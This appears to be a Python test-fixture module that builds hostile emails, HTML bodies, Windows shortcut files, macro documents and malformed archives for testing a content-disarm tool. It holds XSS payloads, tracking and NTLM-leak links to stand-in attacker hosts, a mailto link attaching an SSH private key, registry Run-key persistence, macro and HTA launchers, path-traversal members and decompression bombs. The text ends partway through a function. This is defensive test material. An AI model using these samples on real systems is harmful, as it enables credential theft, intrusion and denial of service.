"""Hostile mails, archives, HTML and SVG for tests/test_attacks_mail_archive.py, built the way
an outsider who has read only cdr's README builds them: from the formats' specifications
(RFC 5322, 2045-2049, 2231, 2046 §5.2.3 message/external-body; MS-OXMSG, MS-OXTNEF,
MS-SHLLINK; PKWARE APPNOTE.TXT; the 7z format notes; the RAR 5.0 technote; LHa's header
notes; POSIX pax; RFC 1952 gzip; HTML5 and SVG 1.1) and public write-ups (Zip Slip,
concatenated ZIPs, SCF/.library-ms/.url NTLM leaks, WinRAR symlink redirection, Outlook
conditional-comment VML, mail tracking by background pictures).

Containers nobody else writes here come from the shared test writers (CFB in
tests/mail_builders, LZH/CAB/RAR/tar/7z in tests/archive_builders); every hostile part of
them is planted here.
"""

from __future__ import annotations

import base64
import io
import struct
import tarfile
import zipfile
import zlib

from tests.archive_builders import (
    _crc16,
    _rar5_header,
    _vint,
    cab_archive,
    lzh_archive,
    rar4_archive,
    rar5_archive,
    seven_zip,
    tar_archive,
)
from tests.mail_builders import compound_file

ATTACKER = "10.66.66.66"
UNC = f"\\\\{ATTACKER}\\share\\x.png"
PE = b"MZ\x90\x00" + b"\0" * 56 + b"PE\0\0" + b"\0" * 200
BATCH = b"start calc.exe\r\n"  # one line a .bat/.cmd runs; nothing a script sniffer must see
BENIGN = "会議のご案内です。資料をご確認ください。"


# ----------------------------------------------------------------------------- mail (RFC 5322/2045)
def _b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def part(headers: str, payload: bytes, encode: bool = True) -> bytes:
    """One MIME body part: raw header lines (CRLF added) and a base64 payload."""
    head = headers.strip().replace("\n", "\r\n") + "\r\n"
    if encode:
        return (head + "Content-Transfer-Encoding: base64\r\n\r\n").encode() + _b64(payload)
    return (head + "\r\n").encode() + payload + b"\r\n"


def mail(parts: list[bytes], subject: str = "ご案内", extra: str = "", kind: str = "mixed", boundary: str = "b0undary") -> bytes:
    """A multipart mail holding ``parts`` with a plain Japanese text part first."""
    head = (
        f"From: sender@example.jp\r\nTo: soumu@example.lg.jp\r\nSubject: {subject}\r\n"
        f"Date: Sun, 29 Nov 2026 09:00:00 +0900\r\nMessage-ID: <atk@example.jp>\r\n{extra}"
        f'MIME-Version: 1.0\r\nContent-Type: multipart/{kind}; boundary="{boundary}"\r\n\r\n'
    ).encode()
    text = part('Content-Type: text/plain; charset="utf-8"', BENIGN.encode())
    body = b"".join(f"--{boundary}\r\n".encode() + p for p in [text, *parts])
    return head + body + f"--{boundary}--\r\n".encode()


def html_mail(html: str, charset: str = "utf-8") -> bytes:
    return mail([part(f'Content-Type: text/html; charset="{charset}"', html.encode(charset))], kind="alternative")


def attachment(name_params: str, payload: bytes, content_type: str = "application/octet-stream") -> bytes:
    """An attachment whose disposition parameters are written raw (``filename*=`` and friends)."""
    return part(f"Content-Type: {content_type}\nContent-Disposition: attachment; {name_params}", payload)


def rfc822(inner: bytes) -> bytes:
    return part("Content-Type: message/rfc822", inner, encode=False)


def nested_rfc822(depth: int) -> bytes:
    """message/rfc822 inside message/rfc822, ``depth`` times (no multipart in between)."""
    inner = b"From: a@example.jp\r\nSubject: core\r\nContent-Type: text/plain\r\n\r\ncore\r\n"
    for _ in range(depth):
        inner = b"From: a@example.jp\r\nSubject: fwd\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n" + inner
    return inner


# ----------------------------------------------------------------------------- HTML bodies
HTML_ATTACKS: dict[str, str] = {
    "script": "<script>alert(document.cookie)</script>",
    "event-handlers": '<body onload="alert(1)"><img src="cid:x" onerror="alert(2)"><p onmouseover=alert(3)>x</p>',
    "javascript-url": '<a href="java&#x09;script:alert(1)">a</a><a href=" JaVaScRiPt&colon;alert(2)">b</a>',
    "vbscript-url": '<a href="vbscript:msgbox(1)">a</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/phish">',
    "remote-img": '<img src="http://evil.example/track.gif?id=soumu" width=1 height=1>',
    "protocol-relative-img": '<img src="//evil.example/t.gif">',
    "srcset": '<img src="cid:a" srcset="http://evil.example/a.png 1x, http://evil.example/b.png 2x">'
    '<picture><source srcset="http://evil.example/c.webp"><img src="cid:b"></picture>',
    "background-attr": '<table background="http://evil.example/bg.png"><tr><td background="http://evil.example/td.png">x</td></tr></table>'
    '<body background="http://evil.example/body.png">',
    "css-url": '<div style="background:url(http://evil.example/x.png)">x</div>'
    "<style>p{background-image:url('//evil.example/y.png')}</style><p>y</p>",
    "css-url-escaped": '<div style="background:u\\72l(http://evil.example/x.png)">x</div>'
    '<div style="background-image:\\75 \\72 \\6c (http://evil.example/y.png)">y</div>'
    '<div style="background:url&#40;http://evil.example/z.png&#41;">z</div>',
    "css-import": "<style>@import 'http://evil.example/a.css'; @import url(//evil.example/b.css);</style>",
    "css-expression": '<div style="width:expression(alert(1));behavior:url(#default#time2)">x</div>'
    '<div style="width:exp/**/ression(alert(2))">y</div><div style="-moz-binding:url(http://evil.example/x.xml#b)">z</div>',
    "base-href": '<base href="http://evil.example/"><a href="login.html">ログイン</a><img src="logo.png">',
    "link-element": '<link rel="stylesheet" href="http://evil.example/s.css"><link rel="prefetch" href="http://evil.example/p">'
    '<link rel="icon" href="\\\\10.66.66.66\\share\\i.ico">',
    "form-action": '<form action="http://evil.example/post" method="post"><input type="password" name="pw">'
    '<button formaction="http://evil.example/b">送信</button><input type="image" src="http://evil.example/i.png"></form>',
    "iframe-object-embed": '<iframe src="http://evil.example/f"></iframe><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
    '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/e.swf"><applet code="X"></applet>',
    "media-poster": '<video poster="http://evil.example/p.png" src="http://evil.example/v.mp4"></video>'
    '<audio src="http://evil.example/a.mp3"></audio><track src="http://evil.example/t.vtt">',
    "data-url-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>'
    '<iframe src="data:text/html,&lt;script&gt;alert(2)&lt;/script&gt;"></iframe>'
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMyk+PC9zdmc+">',
    "unc-and-file": f'<img src="{UNC}"><a href="file://{ATTACKER}/share/x.exe">f</a>'
    f'<img src="file:///{UNC}"><a href="\\\\{ATTACKER}@SSL@443\\DavWWWRoot\\x.docx">w</a>',
    "inline-svg": '<svg><script>alert(1)</script><foreignObject><iframe src="http://evil.example/"></iframe></foreignObject>'
    '<use href="http://evil.example/s.svg#a"/><a xlink:href="javascript:alert(2)"><text>t</text></a>'
    '<image href="http://evil.example/i.png"/></svg>',
    "inline-math": '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    "conditional-vml": '<!--[if gte mso 9]><v:rect xmlns:v="urn:schemas-microsoft-com:vml"><v:fill type="tile" '
    'src="http://evil.example/vml.png"/></v:rect><![endif]--><p>本文</p>',
    "mutation-xss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    '<svg></p><style><a id="</style><img src=1 onerror=alert(2)>">',
    "mhtml-and-ms-its": '<img src="mhtml:file://C:/x.mht!x.html"><a href="ms-its:\\\\10.66.66.66\\s\\x.chm::/a.htm">m</a>'
    '<a href="ms-word:ofe|u|https://evil.example/x.docx">o</a><a href="ms-msdt:/id PCWDiagnostic">d</a><a href="search-ms:query=x&crumb=location:\\\\10.66.66.66\\s">s</a>',
    "utf7-charset": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "css-image-set": '<div style="background-image:image-set(\'http://evil.example/a.png\' 1x)">a</div>'
    '<div style="background-image:-webkit-image-set(\'//evil.example/b.png\' 1x)">b</div>'
    '<ul style="list-style-image:image-set(\'http://evil.example/c.png\' 1x)"><li>c</li></ul>',
    "mailto-attach": '<a href="mailto:x@example.jp?attach=\\\\10.66.66.66\\share\\x&amp;body=y">m</a>'
    '<a href="mailto:x@example.jp?attach=file:///C:/Users/x/.ssh/id_rsa">n</a>',
}


def html_page(body: str) -> str:
    return f"<html><head><title>ご案内</title></head><body><p>{BENIGN}</p>{body}</body></html>"


# ----------------------------------------------------------------------------- shortcuts (MS-SHLLINK &c.)
def shell_link(unc_share: str = f"\\\\{ATTACKER}\\share", suffix: str = "x.exe") -> bytes:
    """A .lnk whose target is a file on an attacker's share (LinkInfo with a
    CommonNetworkRelativeLink) and whose icon is there too: Explorer fetches the icon on view."""
    flags = 0x02 | 0x20 | 0x40 | 0x80  # HasLinkInfo, HasArguments, HasIconLocation, IsUnicode
    header = struct.pack("<I16sIIQQQIIIHH8s", 0x4C, bytes.fromhex("0114020000000000c000000000000046"),
                         flags, 0x20, 0, 0, 0, 0, 0, 1, 0, 0, b"\0" * 8)[:76]
    net = unc_share.encode("ascii") + b"\0"
    cnrl = struct.pack("<IIIII", 0x14 + len(net), 0, 0x14, 0, 0) + net
    tail = suffix.encode("ascii") + b"\0"
    info = struct.pack("<IIIIIII", 0x1C + len(cnrl) + len(tail), 0x1C, 0x02, 0, 0, 0x1C, 0x1C + len(cnrl)) + cnrl + tail

    def counted(text: str) -> bytes:
        return struct.pack("<H", len(text)) + text.encode("utf-16-le")

    return header + info + counted("/c calc.exe") + counted(f"{unc_share}\\icon.ico") + b"\0\0\0\0"


URL_SHORTCUT = f"[InternetShortcut]\r\nURL=file://{ATTACKER}/share/x.exe\r\nIconFile={UNC}\r\nIconIndex=0\r\n".encode()
SCF = f"[Shell]\r\nCommand=2\r\nIconFile={UNC}\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n".encode()
LIBRARY_MS = (
    '<?xml version="1.0" encoding="UTF-8"?>\r\n<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
    f"<searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\{ATTACKER}\\share</url>"
    "</simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>\r\n"
).encode()
SETTINGCONTENT_MS = (
    b'<?xml version="1.0" encoding="UTF-8"?>\r\n<PCSettings><SearchableContent xmlns="http://schemas.microsoft.com/Search/2013/SettingContent">'
    b"<ApplicationInformation><AppID>windows.immersivecontrolpanel_cw5n1h2txyewy!microsoft.windows.immersivecontrolpanel</AppID>"
    b"<DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink><Icon>%windir%\\system32\\control.exe</Icon></ApplicationInformation>"
    b"<SettingIdentity><PageID></PageID><HostID>{12B1697E-D3A0-4DBC-B568-CCF64A3F934D}</HostID></SettingIdentity>"
    b"<SettingInformation><Description>@shell32.dll,-4161</Description><Keywords>@shell32.dll,-4161</Keywords>"
    b"</SettingInformation></SearchableContent></PCSettings>\r\n"
)
DESKTOP_INI = f"[.ShellClassInfo]\r\nIconResource={UNC},0\r\n".encode()
RDP = f"full address:s:{ATTACKER}\r\nredirectdrives:i:1\r\ndrivestoredirect:s:*\r\n".encode("utf-16")
IQY = b"WEB\r\n1\r\nhttp://evil.example/q?x=[\"x\"]\r\n"
REG = b"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"x\"=\"calc.exe\"\r\n"
HTA = b'<html><head><HTA:APPLICATION ID="x"><script language="VBScript">CreateObject("WScript.Shell").Run "calc"</script></head></html>'
WSF = b'<job id="x"><script language="JScript">new ActiveXObject("WScript.Shell").Run("calc");</script></job>'
SEARCH_CONNECTOR = (
    '<?xml version="1.0" encoding="UTF-8"?>\r\n<searchConnectorDescription xmlns="http://schemas.microsoft.com/windows/2009/searchConnector">'
    f"<simpleLocation><url>\\\\{ATTACKER}\\share</url></simpleLocation></searchConnectorDescription>\r\n"
).encode()

# a name Windows runs, holding content a text sniffer may find harmless
RUNNABLE_MEMBERS: dict[str, bytes] = {
    "run.bat": BATCH, "run.cmd": BATCH, "a.url": URL_SHORTCUT, "a.scf": SCF, "a.library-ms": LIBRARY_MS,
    "a.settingcontent-ms": SETTINGCONTENT_MS, "a.lnk": shell_link(), "desktop.ini": DESKTOP_INI, "a.rdp": RDP,
    "a.iqy": IQY, "a.reg": REG, "a.hta": HTA, "a.wsf": WSF, "a.searchConnector-ms": SEARCH_CONNECTOR,
    "readme.com": b"hello\r\n", "a.js": b"var s='hello';\r\n", "a.vbs": b"x = 1\r\n",
}


# ----------------------------------------------------------------------------- Office with a macro
def docm(content_type: str = "application/vnd.ms-word.document.macroEnabled.main+xml") -> bytes:
    """A Word document with a VBA project (ECMA-376 + MS-OFFMACRO2), named however the caller likes."""
    vba = compound_file({("VBA", "dir"): b"\x01" * 64, ("VBA", "ThisDocument"): b"Sub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub\r\n",
                         ("PROJECT",): b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n'})
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/word/document.xml" ContentType="{content_type}"/></Types>',
        "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/_rels/document.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
        f'<Relationship Id="rId2" Type="{rel}/attachedTemplate" Target="file://{ATTACKER}/share/t.dotm" TargetMode="External"/>'
        "</Relationships>",
        "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{w}"><w:body><w:p><w:r><w:t>{BENIGN}</w:t>'
        "</w:r></w:p></w:body></w:document>",
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, text in parts.items():
            package.writestr(name, text)
        package.writestr("word/vbaProject.bin", vba)
    return buffer.getvalue()


# ----------------------------------------------------------------------------- TNEF (MS-OXTNEF)
def _tnef(level: int, attribute: int, data: bytes) -> bytes:
    """One attribute: level, id (type << 16 | id), length, data, checksum (sum of bytes mod 2^16)."""
    return struct.pack("<BII", level, attribute, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)


def _mapi_props(props: list[tuple[int, int, bytes]]) -> bytes:
    """attMAPIProps / attAttachment: a count, then (type, id, value) with variable values counted
    and padded to 4 bytes (MS-OXTNEF 2.1.3.4)."""
    out = struct.pack("<I", len(props))
    for prop_type, prop_id, value in props:
        out += struct.pack("<HH", prop_type, prop_id)
        if prop_type in (0x001F, 0x001E, 0x0102, 0x000D):
            out += struct.pack("<II", 1, len(value)) + value + b"\0" * (-len(value) % 4)
        else:
            out += value + b"\0" * (-len(value) % 4)
    return out


def winmail(attachments: list[tuple[str, bytes, list[tuple[int, int, bytes]]]], message_props: list | None = None) -> bytes:
    """A TNEF stream: per attachment attAttachRendData, attAttachTitle (8-bit name),
    attAttachData and attAttachment (MAPI properties the caller adds)."""
    out = bytearray(b"\x78\x9f\x3e\x22" + struct.pack("<H", 0x0101))
    out += _tnef(1, 0x00089006, struct.pack("<I", 0x00010000))  # attTnefVersion
    out += _tnef(1, 0x00069007, struct.pack("<II", 932, 0))  # attOemCodepage
    if message_props:
        out += _tnef(1, 0x00069003, _mapi_props(message_props))  # attMsgProps
    for title, data, props in attachments:
        out += _tnef(2, 0x00069002, struct.pack("<HIIHHI", 1, 0xFFFFFFFF, 0, 0, 0, 0))
        out += _tnef(2, 0x00018010, title.encode("cp932", "replace") + b"\0")
        out += _tnef(2, 0x0006800F, data)
        if props:
            out += _tnef(2, 0x00069005, _mapi_props(props))
    return bytes(out)


def utf16z(text: str) -> bytes:
    return text.encode("utf-16-le") + b"\0\0"


def tnef_mail(stream: bytes) -> bytes:
    return mail([attachment('filename="winmail.dat"', stream, "application/ms-tnef; name=\"winmail.dat\"")])


def ole10native(name: str, data: bytes) -> bytes:
    """The OLE Packager's \\x01Ole10Native stream: a file carried inside an OLE object."""
    label = name.encode() + b"\0"
    path = f"C:\\Users\\x\\{name}".encode() + b"\0"
    body = struct.pack("<H", 2) + label + path + struct.pack("<HI", 0, 3) + struct.pack("<I", len(path)) + path
    body += struct.pack("<I", len(data)) + data
    return struct.pack("<I", len(body)) + body


OLE_OBJECT = compound_file({("\x01Ole10Native",): ole10native("run.bat", BATCH), ("\x01CompObj",): b"\x01\0\xfe\xff" + b"\0" * 24})


# ----------------------------------------------------------------------------- .msg (MS-OXMSG)
def _fixed(prop_type: int, prop_id: int, value: int) -> bytes:
    return struct.pack("<HHIQ", prop_type, prop_id, 6, value)


def msg_streams(subject: str, html: bytes | None, attachments: list[dict], top: bool = True) -> dict[tuple[str, ...], bytes]:
    """The streams of one message: subject, sender, body, HTML, attachments (each a dict of
    ``name``, ``method`` (1 by value, 2 by reference, 5 embedded message, 6 OLE), ``data``,
    ``path``, ``mime``)."""
    header = struct.pack("<8sIIII", b"\0" * 8, 1, len(attachments), 1, len(attachments)) + (b"\0" * 8 if top else b"")
    streams: dict[tuple[str, ...], bytes] = {
        ("__substg1.0_0037001F",): utf16z(subject),
        ("__substg1.0_0C1A001F",): utf16z("送信者"),
        ("__substg1.0_5D01001F",): utf16z("sender@example.jp"),
        ("__substg1.0_1000001F",): utf16z(BENIGN),
        ("__properties_version1.0",): header + _fixed(0x0003, 0x3FFD, 932),
    }
    if html is not None:
        streams[("__substg1.0_10130102",)] = html
    for n, item in enumerate(attachments):
        storage = f"__attach_version1.0_#{n:08X}"
        streams[(storage, "__substg1.0_3707001F")] = utf16z(item["name"])
        streams[(storage, "__substg1.0_3704001F")] = utf16z(item["name"][:8])
        streams[(storage, "__properties_version1.0")] = b"\0" * 8 + _fixed(0x0003, 0x3705, item["method"])
        if "mime" in item:
            streams[(storage, "__substg1.0_370E001F")] = utf16z(item["mime"])
        if "path" in item:
            streams[(storage, "__substg1.0_3708001F")] = utf16z(item["path"])
            streams[(storage, "__substg1.0_370D001F")] = utf16z(item["path"])
        if item["method"] == 5:
            streams.update({(storage, "__substg1.0_3701000D", *p): d for p, d in item["data"].items()})
        elif item["method"] == 6:
            streams[(storage, "__substg1.0_3701000D", "\x01Ole10Native")] = ole10native("run.bat", BATCH)
            streams[(storage, "__substg1.0_3701000D", "\x01CompObj")] = b"\x01\0\xfe\xff" + b"\0" * 24
        elif "data" in item:
            streams[(storage, "__substg1.0_37010102")] = item["data"]
    return streams


def outlook_msg(subject: str, html: bytes | None, attachments: list[dict]) -> bytes:
    return compound_file(msg_streams(subject, html, attachments))


# ----------------------------------------------------------------------------- ZIP (APPNOTE.TXT)
def raw_zip(members: list[tuple[bytes, bytes]], *, central_names: list[bytes] | None = None,
            extra: bytes = b"", attrs: int = 0, flags: int = 0, made_by: int = 0x031E) -> bytes:
    """A stored ZIP written byte by byte so names (NUL, backslashes, any bytes), extra fields,
    flags and Unix modes are exactly what the caller gives; ``central_names`` lets the
    directory disagree with the local headers."""
    local = bytearray()
    central = bytearray()
    for n, (name, data) in enumerate(members):
        crc = zlib.crc32(data)
        offset = len(local)
        local += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 0, 0, 0x21, crc, len(data), len(data), len(name), len(extra))
        local += name + extra + data
        cname = central_names[n] if central_names else name
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, made_by, 20, flags, 0, 0, 0x21, crc, len(data), len(data),
                               len(cname), len(extra), 0, 0, 0, attrs, offset)
        central += cname + extra
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), len(local), 0)
    return bytes(local + central + end)


def unicode_path_extra(name: str, header_name: bytes) -> bytes:
    """Info-ZIP Unicode Path extra (0x7075): 7-Zip and others take this name over the header's."""
    body = b"\x01" + struct.pack("<I", zlib.crc32(header_name)) + name.encode("utf-8")
    return struct.pack("<HH", 0x7075, len(body)) + body


def std_zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def nested_zip(depth: int, core: bytes) -> bytes:
    data = core
    for level in range(depth):
        data = std_zip({f"level{level}.zip" if level else "payload.bat": data})
    return data


def ratio_bomb_zip(size: int) -> bytes:
    """One member of ``size`` zeros: deflate reaches ~1000:1."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros.txt", "w", force_zip64=True) as out:
        block = b"0" * (1 << 20)
        for _ in range(size >> 20):
            out.write(block)
    return buffer.getvalue()


def symlink_zip() -> bytes:
    """A member whose Unix mode (external attributes' high half) says symlink; its data is the target."""
    return raw_zip([(b"link.txt", b"../../../../etc/passwd")], attrs=(0o120777 << 16))


# ----------------------------------------------------------------------------- tar, gzip, 7z, RAR, LZH, CAB
def pax_tar(pax_path: str, name: str = "safe.txt", data: bytes = BATCH) -> bytes:
    """A ustar name that looks harmless and a pax ``path`` record that overrides it (POSIX pax)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo(name)
        info.size = len(data)
        info.pax_headers = {"path": pax_path}
        tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def tar_with(kind: bytes, name: str, target: str = "") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        ok = tarfile.TarInfo("ok.txt")
        ok.size = len(BENIGN.encode())
        tar.addfile(ok, io.BytesIO(BENIGN.encode()))
        info = tarfile.TarInfo(name)
        info.type, info.linkname = kind, target
        tar.addfile(info)
        after = tarfile.TarInfo(name + "/../evil.bat" if kind == tarfile.SYMTYPE else "x/evil.bat")
        after.size = len(BATCH)
        tar.addfile(after, io.BytesIO(BATCH))
    return buffer.getvalue()


def gzip_named(fname: bytes, data: bytes, comment: bytes = b"") -> bytes:
    """RFC 1952 with FNAME (and FCOMMENT): the name gunzip -N and 7-Zip restore."""
    flags = 0x08 | (0x10 if comment else 0)
    head = struct.pack("<BBBBIBB", 0x1F, 0x8B, 8, flags, 0, 0, 3) + fname + b"\0" + (comment + b"\0" if comment else b"")
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = deflate.compress(data) + deflate.flush()
    return head + body + struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF)


def gzip_bomb(gib: int) -> bytes:
    """``gib`` GiB of zeros deflated once per MiB and repeated after a full flush (same bytes)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = b"\0" * (1 << 20)
    deflate.compress(block)
    deflate.flush(zlib.Z_FULL_FLUSH)
    chunk = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    count = gib << 10
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    head = struct.pack("<BBBBIBB", 0x1F, 0x8B, 8, 0, 0, 0, 3)
    return head + chunk * count + deflate.flush() + struct.pack("<II", crc, (count << 20) & 0xFFFFFFFF)



def rar5_redirect(name: str, target: str, redirect_type: int) -> bytes:
    """A RAR 5 file header with a file system redirection record (extra type 5: 1 Unix symlink,
    2 Windows symlink, 3 junction, 4 hard link) pointing out of the folder."""
    out = bytearray(b"Rar!\x1a\x07\x01\x00")
    out += _rar5_header(_vint(1) + _vint(0) + _vint(0))
    raw = name.encode()
    link = target.encode()
    record = _vint(5) + _vint(redirect_type) + _vint(0) + _vint(len(link)) + link
    extra = _vint(len(record)) + record
    # header flags: extra area and data area (libarchive wants the data area, even empty)
    fields = _vint(2) + _vint(0x0003) + _vint(len(extra)) + _vint(0) + _vint(0x0004) + _vint(0) + _vint(0o120777)
    fields += struct.pack("<I", 0) + _vint(0) + _vint(1) + _vint(len(raw)) + raw + extra
    out += _rar5_header(fields)
    out += _rar5_header(_vint(5) + _vint(0) + _vint(0))
    return bytes(out)


def lzh_level2(directory: bytes, name: bytes, data: bytes, unix_mode: int | None = None) -> bytes:
    """A level-2 LHa header (-lh0-): the file name in extension 0x01 and the folder in
    extension 0x02 with 0xFF as separator, so a check of the name alone misses the folder.
    Each extension is its type, its data and the size of the next one (0 ends them); the
    first is the header CRC (0x00), CRC-16 of the whole header with that field zero."""
    values = [(0x00, b"\0\0"), (0x01, name)]
    if directory:
        values.append((0x02, directory))
    if unix_mode is not None:
        values.append((0x50, struct.pack("<H", unix_mode)))
    sizes = [3 + len(value) for _, value in values] + [0]
    extensions = bytearray(struct.pack("<H", sizes[0]))
    for n, (kind, value) in enumerate(values):
        extensions += bytes([kind]) + value + struct.pack("<H", sizes[n + 1])
    total = 24 + len(extensions)
    header = bytearray(struct.pack("<H5sIIIBBHB", total, b"-lh0-", len(data), len(data), 0x6000_0000, 0x20, 2,
                                   _crc16(data), ord("U")) + extensions)
    struct.pack_into("<H", header, 24 + 2 + 1, _crc16(bytes(header)))
    return bytes(header) + data + b"\0"


def lzh_level0(name: bytes, data: bytes) -> bytes:
    body = b"-lh0-" + struct.pack("<IIIBBB", len(data), len(data), 0x21210000, 0x20, 0, len(name)) + name
    body += struct.pack("<H", _crc16(data))
    return bytes([len(body), sum(body) & 0xFF]) + body + data + b"\0"


__all__ = ["cab_archive", "lzh_archive", "rar4_archive", "rar5_archive", "seven_zip", "tar_archive"]


def seven_zip_renamed(members: list[tuple[str, bytes]], renames: dict[str, str]) -> bytes:
    """A 7z whose names py7zr would refuse to write (``../``): written under same-length
    stand-ins with a plain (not encoded) header, the UTF-16 names swapped in place, and
    the next-header and start-header CRCs computed again (7zFormat.txt, SignatureHeader)."""
    import py7zr

    buffer = io.BytesIO()
    with py7zr.SevenZipFile(buffer, "w") as archive:
        archive.encoded_header_mode = False
        for name, data in members:
            archive.writestr(data, name)
    raw = bytearray(buffer.getvalue())
    for stand_in, name in renames.items():
        old, new = stand_in.encode("utf-16-le"), name.encode("utf-16-le")
        assert len(old) == len(new) and raw.count(old) == 1
        raw = bytearray(raw.replace(old, new))
    offset, size = struct.unpack("<QQ", raw[12:28])
    raw[28:32] = struct.pack("<I", zlib.crc32(raw[32 + offset : 32 + offset + size]))
    raw[8:12] = struct.pack("<I", zlib.crc32(raw[12:32]))
    return bytes(raw)


# ----------------------------------------------------------------------------- more mail wrappers
def quoted_printable_html(html: str) -> bytes:
    """An HTML body in quoted-printable with every markup word broken by a soft line break."""
    raw = html.encode()
    out = bytearray()
    for n, byte in enumerate(raw):
        out += f"={byte:02X}".encode() if byte > 126 or byte == 61 else bytes([byte])
        if n % 5 == 4:
            out += b"=\r\n"
    return b'Content-Type: text/html; charset="utf-8"\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n' + bytes(out) + b"\r\n"


def uuencoded_body(name: str, data: bytes) -> bytes:
    """A plain body holding a uuencoded file, which Thunderbird shows as an attachment."""
    import binascii

    lines = [binascii.b2a_uu(data[at : at + 45]) for at in range(0, len(data), 45)]
    block = f"begin 644 {name}\r\n".encode() + b"".join(line.rstrip(b"\n") + b"\r\n" for line in lines) + b"`\r\nend\r\n"
    return part('Content-Type: text/plain; charset="us-ascii"', BENIGN.encode() + b"\r\n\r\n" + block)


CALENDAR = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:x@example.jp\r\n"
    "DTSTART:20261201T010000Z\r\nSUMMARY:会議\r\n"
    f"ATTACH;FMTTYPE=application/octet-stream:file://{ATTACKER}/share/agenda.exe\r\n"
    "X-ALT-DESC;FMTTYPE=text/html:<html><body><img src=http://evil.example/c.png><script>alert(1)</script></body></html>\r\n"
    "END:VEVENT\r\nEND:VCALENDAR\r\n"
).encode()


def message_partial(payload: bytes) -> bytes:
    """RFC 2046 §5.2.2: a fragment of a message a client may reassemble."""
    inner = b"Content-Type: application/octet-stream; name=run.bat\r\nContent-Disposition: attachment; filename=run.bat\r\n\r\n" + payload
    return part('Content-Type: message/partial; id="frag@example.jp"; number=1; total=1', inner, encode=False)


def smime_opaque(inner: bytes) -> bytes:
    """An opaque-signed S/MIME part (RFC 8551 application/pkcs7-mime; smime-type=signed-data):
    the whole MIME entity, attachments and all, sits inside the CMS blob, and Outlook and
    Thunderbird unwrap it and show what is inside."""
    import datetime

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.hazmat.primitives.serialization import pkcs7
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.EMAIL_ADDRESS, "sender@example.jp")])
    now = datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(1).not_valid_before(now).not_valid_after(now + datetime.timedelta(days=3650))
            .sign(key, hashes.SHA256()))
    blob = pkcs7.PKCS7SignatureBuilder().set_data(inner).add_signer(cert, key, hashes.SHA256()).sign(
        serialization.Encoding.DER, [pkcs7.PKCS7Options.Binary])
